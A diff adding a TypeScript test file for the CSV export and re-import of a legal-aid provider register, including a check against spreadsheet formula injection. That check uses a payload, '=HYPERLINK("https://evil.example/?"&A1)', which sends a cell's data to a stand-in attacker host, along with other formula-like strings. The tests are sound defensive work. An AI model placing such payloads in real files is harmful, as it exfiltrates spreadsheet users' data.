@@ -1,0 +1,210 @@
+import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { exampleGazetteer } from '@legalmap/data/examples/gazetteer.ts'
+import { exampleProvider } from '@legalmap/data/examples/records.ts'
+import { guardCell } from '@legalmap/data/importing/cells/reading.ts'
+import { planProviders } from '@legalmap/data/importing/plan-providers.ts'
+import { providerFields } from '@legalmap/data/importing/provider-fields.ts'
+import { writeProviders } from '@legalmap/data/importing/write-table.ts'
+import { type Provider, provider } from '@legalmap/data/model/provider.ts'
+import { accessibilityFeatures } from '@legalmap/data/vocabulary/accessibility.ts'
+import { audiences } from '@legalmap/data/vocabulary/audience.ts'
+import { costs } from '@legalmap/data/vocabulary/cost.ts'
+import { locationVisibilities } from '@legalmap/data/vocabulary/location-visibility.ts'
+import { phoneChannels } from '@legalmap/data/vocabulary/phone-channel.ts'
+import { providerKinds } from '@legalmap/data/vocabulary/provider-kind.ts'
+import { providerStatuses } from '@legalmap/data/vocabulary/provider-status.ts'
+import { spokenLanguages } from '@legalmap/data/vocabulary/spoken-language.ts'
+import { topics } from '@legalmap/data/vocabulary/topic.ts'
+import { runExport } from '@legalmap/scripts/export/export-command.ts'
+import { openRegister } from '@legalmap/scripts/register-store.ts'
+import { readCsv } from '@legalmap/server/importing/read-csv.ts'
+import { csvOf } from '@legalmap/server/importing/write-csv.ts'
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { gazetteer } from './shipped.ts'
+
+/** Texts that a table, a spreadsheet or the import's own signs could take for something else. */
+const awkward = [
+  '-',
+  '–',
+  "'",
+  "'=x",
+  '=1+1',
+  '+996312626210',
+  '@sum',
+  '\tx',
+  'a;b',
+  'a|b',
+  'a, b',
+  'two\nlines',
+  '"',
+  ' x ',
+  'ң\u0306',
+  '\u0000',
+  '#N/A',
+]
+const text = (most: number) =>
+  fc.oneof(
+    fc.constantFrom('', ...awkward, 'Приёмная', 'Кабыл алуу бөлмөсү', 'Reception (main)', 'ru: x / en: y'),
+    fc.string({ maxLength: most }),
+    fc.string({ unit: 'grapheme', maxLength: Math.floor(most / 20) }),
+  )
+const localized = (most: number) => fc.record({ ky: text(most), ru: text(most), en: text(most) })
+const some = <T>(words: readonly T[]) => fc.uniqueArray(fc.constantFrom(...words), { maxLength: 4 })
+const date = fc.constantFrom('', '2019', '2019-07', '2019-07-16')
+const phone = fc.record({
+  number: fc.constantFrom('114', '1234', '+996312626210', '+996555000111', '+12025550123', '2345', '+99612345678'),
+  extension: fc.constantFrom('', '195', '0'),
+  label: localized(30),
+  channels: fc.uniqueArray(fc.constantFrom(...phoneChannels), { minLength: 1 }),
+})
+const webAddress = fc.constantFrom('https://a.example/', 'https://b.example/x?y=1;z', 'http://c.example/ф')
+const record: fc.Arbitrary<Provider> = fc
+  .record({
+    kind: fc.constantFrom(...providerKinds),
+    name: localized(40),
+    operator: localized(40),
+    oblast: text(30),
+    district: text(30),
+    settlement: text(30),
+    unit_id: fc.constantFrom('', 'north', 'lake', 'quarter', 'nowhere'),
+    place_id: fc.constantFrom('', 's1', 's4', 's99'),
+    serves_units: some(['valley', 'lake', 'nowhere']),
+    address: localized(40),
+    landmark: localized(40),
+    phones: fc.array(phone, { maxLength: 3 }),
+    email: fc.constantFrom('', 'a@mail.example'),
+    website: fc.oneof(fc.constant(''), webAddress),
+    hours_text: text(40),
+    schedule: fc.constantFrom('', 'Mo-Fr 09:00-17:00', 'rubbish'),
+    topics: some(topics),
+    audiences: some(audiences),
+    languages: some(spokenLanguages),
+    cost: fc.constantFrom('' as const, ...costs),
+    accessibility: some(accessibilityFeatures),
+    status: fc.constantFrom(...providerStatuses),
+    opened_on: date,
+    supported_by: fc.array(text(20), { maxLength: 3 }),
+    sources: fc.array(fc.record({ url: fc.oneof(fc.constant(''), webAddress), title: text(20) }), { maxLength: 3 }),
+    source_date: date,
+    verified_at: fc.constantFrom('', '2026-11-20T06:00:00.000Z', '2026-11-20T06:00:00Z'),
+    verified_by: text(20),
+    location: fc.option(
+      fc.record({
+        longitude: fc.double({ min: 69.3, max: 80.2, noNaN: true }),
+        latitude: fc.double({ min: 39.3, max: 43.2, noNaN: true }),
+      }),
+      { nil: null },
+    ),
+    location_visibility: fc.constantFrom(...locationVisibilities),
+    note: text(200),
+  })
+  .map((given) => exampleProvider({ ...given, id: 'a' }))
+  .filter((one) => provider.safeParse(one).success && JSON.stringify(one).isWellFormed())
+
+const revision = 7
+const exported = (one: Provider) => writeProviders([{ revision, record: one }], exampleGazetteer)
+const read = (table: { columns: string[]; rows: string[][] }) =>
+  readCsv(new TextEncoder().encode(csvOf(table)), 'export.csv').table
+const plan = (table: { columns: string[]; rows: string[][] }, current: Provider) =>
+  planProviders(read(table), [{ revision, record: current }], exampleGazetteer)
+
+describe('a provider that is exported', { timeout: 120_000 }, () => {
+  test('and imported as it is changes nothing, whatever it holds', () => {
+    fc.assert(
+      fc.property(record, (one) => {
+        const { edits, unchanged, refused, changed } = plan(exported(one), one)
+        expect([changed, edits, unchanged.length, refused.length]).toEqual([[], [], 1, 0])
+      }),
+      { numRuns: 400 },
+    )
+  })
+
+  test('says every fact in a cell that reads as it, or says that it cannot', () => {
+    fc.assert(
+      fc.property(record, (one) => {
+        const { columns, rows, unsaid } = exported(one)
+        const cells = new Map(columns.map((column, index) => [column, rows[0]?.[index] ?? '']))
+        for (const field of providerFields) {
+          const isEmpty = JSON.stringify(field.get(one)) === JSON.stringify(field.empty)
+          const isUnsaid = unsaid.some(({ column }) => column === field.column)
+          expect([field.column, cells.get(field.column) === '']).toEqual([field.column, isEmpty || isUnsaid])
+        }
+      }),
+      { numRuns: 300 },
+    )
+  })
+
+  test('and verified comes back with one edited phone as exactly that change', () => {
+    fc.assert(
+      fc.property(record, (one) => {
+        const before = { ...one, verified_at: '2026-11-20T06:00:00.000Z', verified_by: 'Aigul', schedule: '', phones: [] }
+        const table = exported(before)
+        const at = table.columns.indexOf('phones')
+        const rows = table.rows.map((cells) => cells.map((cell, index) => (index === at ? '0312 62-62-10' : cell)))
+        const { edits, changed, refused } = plan({ ...table, rows }, before)
+        expect([changed[0]?.fields.map(({ column }) => column), refused]).toEqual([['phones'], []])
+        const phones = [{ number: '+996312626210', extension: '', label: { ky: '', ru: '', en: '' }, channels: ['call'] }]
+        expect(edits.map((edit) => edit.record)).toEqual([{ ...before, phones }])
+      }),
+      { numRuns: 150 },
+    )
+  })
+
+  test('but was changed since keeps what was verified, and says so', () => {
+    const before = exampleProvider({ id: 'a', verified_at: '2026-11-20T06:00:00.000Z', source_date: '2019' })
+    const table = exported(before)
+    const rows = table.rows.map((cells) =>
+      cells.map((cell, index) => (table.columns[index] === 'email' ? 'a@mail.example' : cell)),
+    )
+    const { edits, findings } = planProviders(read({ ...table, rows }), [{ revision: 8, record: before }], exampleGazetteer)
+    expect([edits, findings.map(({ code }) => code)]).toEqual([[], expect.arrayContaining(['revision_old', 'verified_later'])])
+  })
+})
+
+test('no cell of an export begins as a formula does, and reading takes the guard off again', () => {
+  const note = '=HYPERLINK("https://evil.example/?"&A1)'
+  const one = exampleProvider({ id: 'a', note, landmark: { ky: '+1', ru: '@a', en: "'-x" } })
+  for (const cell of exported(one).rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/u)
+  expect(exported(one).unsaid).toEqual([])
+  fc.assert(
+    fc.property(text(10), (cell) => {
+      expect(guardCell(cell)).not.toMatch(/^[=+\-@\t\r]/u)
+    }),
+  )
+})
+
+describe('legalmap export', () => {
+  test('writes the whole register, notes and all, for its owner alone, and never over another file', async () => {
+    const folder = mkdtempSync(join(tmpdir(), 'legalmap-export-'))
+    let out = ''
+    const run = (...given: string[]) =>
+      runExport(given, {
+        openStore: (asked) => openRegister(':memory:', gazetteer, { ...asked, readonly: false }, () => {}),
+        gazetteer,
+        out: (line) => {
+          out += `${line}\n`
+        },
+      })
+    const file = join(folder, 'providers.csv')
+    expect(await run('providers', file)).toBe(0)
+    expect(out).toContain('90 providers are in')
+    expect(statSync(file).mode & 0o777).toBe(0o600)
+    const { rows, columns } = readCsv(readFileSync(file), 'providers.csv').table
+    expect(rows).toHaveLength(90)
+    expect(rows.filter(({ cells }) => cells[columns.indexOf('note')] !== '').length).toBeGreaterThan(30)
+    const store = await openRegister(':memory:', gazetteer, { readonly: false }, () => {})
+    const { providers } = await store.register()
+    await store.close()
+    expect(planProviders(readCsv(readFileSync(file), 'p.csv').table, providers, gazetteer).unchanged).toHaveLength(90)
+    writeFileSync(file, 'mine')
+    expect([await run('providers', file), readFileSync(file, 'utf8')]).toEqual([1, 'mine'])
+    expect(await Promise.all([run(), run('visits', file), run('providers'), run('providers', file, '--language', 'de')])).toEqual(
+      [2, 2, 2, 2],
+    )
+    expect([await run('--help'), out.includes('also what is never published')]).toEqual([0, true])
+    rmSync(folder, { recursive: true })
+  })
+})
